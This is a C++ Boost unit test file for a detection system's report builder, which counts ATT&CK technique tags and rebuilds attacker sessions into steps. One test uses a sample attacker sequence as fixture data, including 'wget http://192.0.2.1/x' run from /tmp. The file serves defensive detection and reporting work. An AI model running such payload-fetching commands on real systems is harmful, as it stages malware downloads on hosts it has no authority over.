#include "report_tags.hpp"

#include <boost/test/unit_test.hpp>

using namespace rulehost;
using namespace std::chrono_literals;
using test::report_start;
using test::seen_tag;

BOOST_AUTO_TEST_SUITE(data_of_reports)

BOOST_AUTO_TEST_CASE(tags_are_summed_by_technique_source_session_and_time) {
    report_data data(report_start, report_start + 84s);
    test::add(data, seen_tag("s1", 0));
    test::add(data, seen_tag("s1", 0));
    test::add(data, seen_tag("s1", 83, "x", "TA0007", "T1083", ""));
    auto other = seen_tag("s2", 10);
    other.src_ip.clear(); // then the attacker's uuid replaces it
    other.confidence = 0.95;
    test::add(data, other);
    BOOST_TEST(data.tags() == 4u);
    BOOST_TEST(data.sources() == 2u);
    BOOST_TEST(data.addresses() == 1u);
    BOOST_TEST(data.outside() == 0u);
    BOOST_TEST(data.sessions() == 2u);
    BOOST_TEST(data.sensors() == 1u);
    BOOST_TEST(data.sessions_at(0.9) == 1u);
    BOOST_TEST(data.timeline()[0] == 2u);
    BOOST_TEST(data.timeline()[10] == 1u);
    BOOST_TEST(data.timeline()[83] == 1u);
    auto const techniques = data.techniques();
    BOOST_REQUIRE_EQUAL(techniques.size(), 2u);
    BOOST_TEST(techniques[0].id == "T1059.004");
    BOOST_TEST(techniques[0].tags == 3u);
    BOOST_TEST(techniques[0].highest == 0.95);
    BOOST_TEST(techniques[1].id == "T1083");
    auto const sources = data.top_sources(5);
    BOOST_REQUIRE_EQUAL(sources.size(), 2u);
    BOOST_TEST(sources[0].name == "203.0.113.5");
    BOOST_TEST(sources[0].tactics.at("TA0007") == 1u);
    BOOST_TEST(sources[1].name == other.attacker_uuid);
    BOOST_TEST(data.top_sessions(1).at(0).id == "s1"); // it has two tactics
    BOOST_TEST((data.top_sessions(1).at(0).last == report_start + 83s));
}

BOOST_AUTO_TEST_CASE(a_time_outside_the_span_counts_at_its_edge) {
    report_data data(report_start, report_start + 84s);
    test::add(data, seen_tag("s1", -5));
    test::add(data, seen_tag("s1", 500));
    BOOST_TEST(data.timeline().front() == 1u);
    BOOST_TEST(data.timeline().back() == 1u);
    BOOST_TEST(data.outside() == 2u);
}

BOOST_AUTO_TEST_CASE(a_span_of_one_microsecond_has_a_timeline) {
    report_data data(report_start, report_start + 1us);
    test::add(data, seen_tag("s1", 0));
    BOOST_TEST(data.timeline().front() == 1u);
}

BOOST_AUTO_TEST_CASE(the_tags_of_an_event_are_one_step_of_its_session) {
    story_builder builder({});
    auto first = seen_tag("s1", 0, "id");
    auto second = first;
    second.technique_id = "T1033";
    second.sub_technique_id.clear();
    for (auto const& each : {first, second, seen_tag("s1", 5, "w")})
        builder.add(each, *each.observed_at);
    auto const story = builder.take();
    BOOST_REQUIRE_EQUAL(story.steps.size(), 2u);
    BOOST_TEST(story.steps[0].typed == "id");
    BOOST_REQUIRE_EQUAL(story.steps[0].found.size(), 2u);
    BOOST_TEST(story.steps[0].found[1].technique == "T1033");
    BOOST_TEST(!story.is_cut);
}

BOOST_AUTO_TEST_CASE(a_tag_that_may_not_count_is_marked_in_its_step) {
    story_builder builder({});
    auto uncertain = seen_tag("s1", 0, "id");
    uncertain.undecided = true;
    builder.add(uncertain, *uncertain.observed_at, true);
    auto const plain = seen_tag("s1", 1, "w");
    builder.add(plain, *plain.observed_at);
    auto const story = builder.take();
    BOOST_REQUIRE_EQUAL(story.steps.size(), 2u);
    BOOST_TEST(story.steps[0].found.at(0).marks.text() == "retracted, undecided");
    BOOST_TEST(story.steps[0].found.at(0).marks.retracted);
    BOOST_TEST(story.steps[1].found.at(0).marks.text().empty());
}

BOOST_AUTO_TEST_CASE(an_untagged_event_is_a_step_between_the_tagged_ones) {
    story_builder builder({});
    auto const tagged = seen_tag("s1", 2, "cut short");
    auto const say = [&](std::string id, int second, std::string typed) {
        return builder.add(
            {"s1", tagged.source_kind, std::move(id), report_start + std::chrono::seconds{second}, std::move(typed)});
    };
    say("c0", 0, "cd /tmp");
    say(tagged.source_id, 2, "wget http://192.0.2.1/x");
    say("c9", 3, "exit");
    builder.add(tagged, *tagged.observed_at);
    auto const story = builder.take();
    BOOST_TEST(story.has_untagged);
    BOOST_REQUIRE_EQUAL(story.steps.size(), 3u);
    BOOST_TEST(story.steps[0].typed == "cd /tmp");
    BOOST_TEST(story.steps[0].found.empty());
    BOOST_TEST(story.steps[1].typed == "wget http://192.0.2.1/x"); // the whole line, not the evidence of one rule
    BOOST_TEST(story.steps[1].found.size() == 1u);
    BOOST_TEST(story.steps[2].typed == "exit");
    BOOST_TEST(!story.is_cut);
}

BOOST_AUTO_TEST_CASE(text_of_a_step_comes_from_any_of_its_tags) {
    story_builder builder({});
    auto silent = test::seen_tag("s1", 5);
    auto const telling = silent;
    silent.evidence.erase("command_text"); // as from a rule without evidence fields
    for (auto const& each : {silent, telling})
        builder.add(each, *each.observed_at);
    auto const story = builder.take();
    BOOST_REQUIRE_EQUAL(story.steps.size(), 1u);
    BOOST_TEST(story.steps[0].typed == "id");
    BOOST_TEST(story.steps[0].found.size() == 2u);
}

BOOST_AUTO_TEST_CASE(a_long_session_is_reported_up_to_a_hundred_steps) {
    story_builder builder({});
    for (int i = 0; i < 150; ++i)
        BOOST_TEST(builder.add(seen_tag("s1", i), report_start + std::chrono::seconds{i}) == (i < 100));
    auto const story = builder.take();
    BOOST_TEST(story.steps.size() == 100u);
    BOOST_TEST(story.is_cut);
}

BOOST_AUTO_TEST_CASE(tags_of_one_time_find_the_steps_of_their_events_also_at_the_maximum) {
    for (std::size_t const most : {3u, 2u}) {
        story_builder builder({}, most);
        auto const add = [&](int event) { return builder.add(seen_tag("s1", event), report_start); };
        // Sorted by their ids, the tags of the events alternate.
        for (int const event : {1, 2, 1, 3, 2, 3, 1})
            BOOST_TEST(add(event));
        BOOST_TEST(!builder.add(seen_tag("s1", 9), report_start + 1s));
        auto const story = builder.take();
        BOOST_REQUIRE_EQUAL(story.steps.size(), most);
        BOOST_TEST(story.steps[0].found.size() == 3u);
        BOOST_TEST(story.steps[1].found.size() == 2u);
        BOOST_TEST(story.is_cut);
    }
}

BOOST_AUTO_TEST_CASE(steps_of_one_time_have_the_order_of_their_texts) {
    for (std::size_t const most : {9u, 3u}) {
        story_builder builder({}, most);
        for (auto const* const id : {"es1d", "es1b", "es1c", "es1a"})
            builder.add({"s1", seen_tag("s1", 0).source_kind, id, report_start, id});
        for (auto const* const id : {"es1_", "es1a", "es1c", "es1d", "es1_"}) {
            auto tagged = seen_tag("s1", 0);
            tagged.source_id = id;
            builder.add(tagged, report_start);
        }
        auto const story = builder.take();
        std::string listed;
        for (auto const& each : story.steps)
            listed += each.source_id + ' ' + std::to_string(each.found.size()) + ' ';
        BOOST_TEST(listed == (most == 9 ? "es1d 1 es1b 0 es1c 1 es1a 1 es1_ 2 " : "es1d 1 es1b 0 es1c 1 "));
        BOOST_TEST(story.is_cut == (most == 3));
    }
}

BOOST_AUTO_TEST_SUITE_END()
